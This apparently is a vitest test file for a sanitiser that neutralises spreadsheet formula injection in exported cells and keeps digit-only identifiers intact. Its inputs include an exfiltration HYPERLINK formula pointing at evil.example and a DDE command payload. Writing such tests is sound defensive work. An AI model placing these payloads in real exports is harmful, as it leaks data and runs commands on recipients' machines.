import { describe, expect, test } from "vitest";
import { identifierCell, textCell } from "./spreadsheet-text.ts";

describe("text a spreadsheet would run is set apart", () => {
  test.each([
    ["=1+1", "'=1+1"],
    ['=HYPERLINK("http://evil.example?"&A1,"환불")', '\'=HYPERLINK("http://evil.example?"&A1,"환불")'],
    ["+82 담당자", "'+82 담당자"],
    ["-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"],
    ["@SUM(A1:A9)", "'@SUM(A1:A9)"],
    ["\t=1+1", "'\t=1+1"],
    ["\r=1+1", "'\r=1+1"],
    ["\n=1+1", "'\n=1+1"],
    ["＝1+1", "'＝1+1"],
    ["＠SUM(A1)", "'＠SUM(A1)"],
  ])("%j", (text, cell) => {
    expect(textCell(text)).toBe(cell);
    expect(identifierCell(text)).toMatch(/^'|^="[^"]*"$/);
  });
});

describe("names made of digits keep all of them", () => {
  test.each([
    ["01012345678", '="01012345678"'],
    ["010-1234-5678", '="010-1234-5678"'],
    ["+82-10-1234-5678", '="+82-10-1234-5678"'],
    ["20261120000123", '="20261120000123"'],
    ["12345", '="12345"'],
    ["1E5", '="1E5"'],
    ["2026-11-20", '="2026-11-20"'],
    ["imp_448280090638", "imp_448280090638"],
    ["ORD-20261118-00417", "ORD-20261118-00417"],
  ])("%s", (text, cell) => {
    expect(identifierCell(text)).toBe(cell);
  });

  test("an identifier cannot end the quotation it is put in", () => {
    expect(identifierCell('1"&A1&"2')).toBe('1"&A1&"2');
    expect(identifierCell('=1"&A1&"')).toBe('\'=1"&A1&"');
  });
});

test("usual text is left as it is", () => {
  for (const text of ["", "가을 니트 카디건 외 2건", "3,000", "12345", "a=b", "김민수"])
    expect(textCell(text)).toBe(text);
});
